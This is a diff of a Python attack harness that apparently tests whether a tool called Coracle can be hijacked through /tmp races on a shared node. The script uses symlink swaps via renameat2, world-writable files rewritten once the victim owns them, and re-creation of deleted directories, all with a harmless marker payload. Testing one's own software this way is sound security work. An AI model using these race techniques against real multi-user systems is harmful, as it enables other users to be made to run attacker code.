@@ -1,35 +1,35 @@
-# A second user of a node, who wants the first one to execute a program of theirs. Looks for paths in /tmp among the
-# arguments of all processes, and in /tmp itself, and tries with each, as named on the command line:
+# An attacker who wants another user of the node, the victim, to execute a program. Searches the arguments of all processes and
+# /tmp itself for paths of Coracle, and attacks each in the modes that the command line names:
 #
-#   swap     makes the directory first, and exchanges it with a link to a directory of the victim, again and again
-#   program  makes the file first, open to all, keeps it open, and writes to it when it belongs to the victim
+#   swap     creates the directory first, and exchanges it repeatedly with a link to a directory of the victim
+#   program  creates the file first, writable for all, keeps it open, and writes to it once the victim owns it
 #   agents   the same with a file that srun broadcasts
-#   enter    renames, exchanges or opens what is there already
-#   remake   makes the directory again as soon as the victim has removed it
+#   enter    renames, exchanges or opens an existing directory
+#   remake   creates the directory again as soon as the victim has removed it
 #
-# Ends when its standard input does, or after three minutes.
+# Exits when its standard input ends, or after three minutes.
 import ctypes, os, re, select, sys, threading, time
 
 PAYLOAD = b"#!/bin/sh\nid -un >>/var/tmp/executed-by\n"
-NAMES = re.compile(rb"/tmp/coracle-[0-9A-Za-z.]+")
+PATH_PATTERN = re.compile(rb"/tmp/coracle-[0-9A-Za-z.]+")
 modes = sys.argv[1:]
 libc = ctypes.CDLL(None, use_errno=True)
-tried = {}
-end = time.monotonic() + 180
+counts = {}
+deadline = time.monotonic() + 180
 
 
-def over():
-    return time.monotonic() > end or os.path.exists("/var/tmp/executed-by")
+def is_over():
+    return time.monotonic() > deadline or os.path.exists("/var/tmp/executed-by")
 
 
 def exchange(one, other):
     return libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), 2) == 0
 
 
-def tell(what, path):
-    count = tried[what] = tried.get(what, 0) + 1
-    if count == 1:
-        print(what, path, flush=True)
+def report(event, path):
+    counts[event] = counts.get(event, 0) + 1
+    if counts[event] == 1:
+        print(event, path, flush=True)
 
 
 def write_program(path):
@@ -43,11 +43,11 @@ def swap(path):
         os.mkdir(path)
     except OSError:
         return
-    tell("made", path)
+    report("made", path)
     write_program(path + "/coracle")
     link = path + "-link"
     os.symlink("/home/user1", link)
-    while not over():
+    while not is_over():
         exchange(path, link)
 
 
@@ -56,9 +56,9 @@ def program(path):
         file = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o777)
     except OSError:
         return
-    tell("made", path)
+    report("made", path)
     before = os.fstat(file)
-    while not over():
+    while not is_over():
         now = os.fstat(file)
         if now.st_uid != before.st_uid:
             os.ftruncate(file, 0)
@@ -68,7 +68,7 @@ def program(path):
 
 
 def enter(path):
-    tell("found", path)
+    report("found", path)
     own = "/tmp/own-" + os.path.basename(path)
     if not os.path.lexists(own):
         os.mkdir(own)
@@ -76,27 +76,27 @@ def enter(path):
     for name in ["coracle", "coracle.part"]:
         try:
             os.rename(own + "/coracle", path + "/" + name)
-            tell("entered", path)
+            report("entered", path)
         except OSError:
             pass
         try:
             with open(path + "/" + name, "r+b") as file:
                 file.write(PAYLOAD)
-            tell("wrote", path)
+            report("wrote", path)
         except OSError:
             pass
     if exchange(own, path):
-        tell("exchanged", path)
+        report("exchanged", path)
     for change in [lambda: os.rename(path, path + "-away"), lambda: os.chmod(path, 0o777)]:
         try:
             change()
-            tell("renamed", path)
+            report("renamed", path)
         except OSError:
             pass
 
 
 def remake(path):
-    while not over():
+    while not is_over():
         try:
             os.mkdir(path)
             break
@@ -105,19 +105,19 @@ def remake(path):
         except OSError:  # the disk is full
             pass
     for name in ["coracle", "coracle.part"]:
-        while not over():
+        while not is_over():
             try:
                 write_program(path + "/" + name)
                 break
             except OSError:
                 time.sleep(0.0005)
-    tell("remade", path)
+    report("remade", path)
 
 
-def is_anothers(path):
+def is_foreign(path):
     try:
         return os.lstat(path).st_uid != os.getuid()
-    except FileNotFoundError:  # just removed by the victim
+    except FileNotFoundError:  # the victim has just removed it
         return False
 
 
@@ -132,17 +132,17 @@ def arguments():
 
 os.umask(0)
 seen = set()
-while not over() and not select.select([sys.stdin], [], [], 0.001)[0]:
-    for words in arguments():
-        for name in NAMES.findall(words):
+while not is_over() and not select.select([sys.stdin], [], [], 0.001)[0]:
+    for args in arguments():
+        for name in PATH_PATTERN.findall(args):
             path = os.fsdecode(name)
             path = path.removesuffix(".first").removesuffix(".part")
-            # Also what only looks like one: a template's name is free to everybody.
+            # Skip templates of mktemp(1): they are not paths.
             if path in seen or path.endswith("XXXX"):
                 continue
             seen.add(path)
-            tell("read", path)
-            is_file = b"--bcast=" + name in words
+            report("read", path)
+            is_file = b"--bcast=" + name in args
             attempts = []
             if "swap" in modes and not is_file:
                 attempts.append((swap, path))
@@ -154,12 +154,12 @@ while not over() and not select.select([sys.stdin], [], [], 0.001)[0]:
                 threading.Thread(target=attempt, args=(path,), daemon=True).start()
     for name in os.listdir("/tmp"):
         path = "/tmp/" + name
-        if not name.startswith("coracle-") or not is_anothers(path):
+        if not name.startswith("coracle-") or not is_foreign(path):
             continue
         if "enter" in modes:
             enter(path)
         if "remake" in modes and path not in seen:
             seen.add(path)
-            tell("found", path)
+            report("found", path)
             threading.Thread(target=remake, args=(path,), daemon=True).start()
-print("end", tried, flush=True)
+print("end", counts, flush=True)
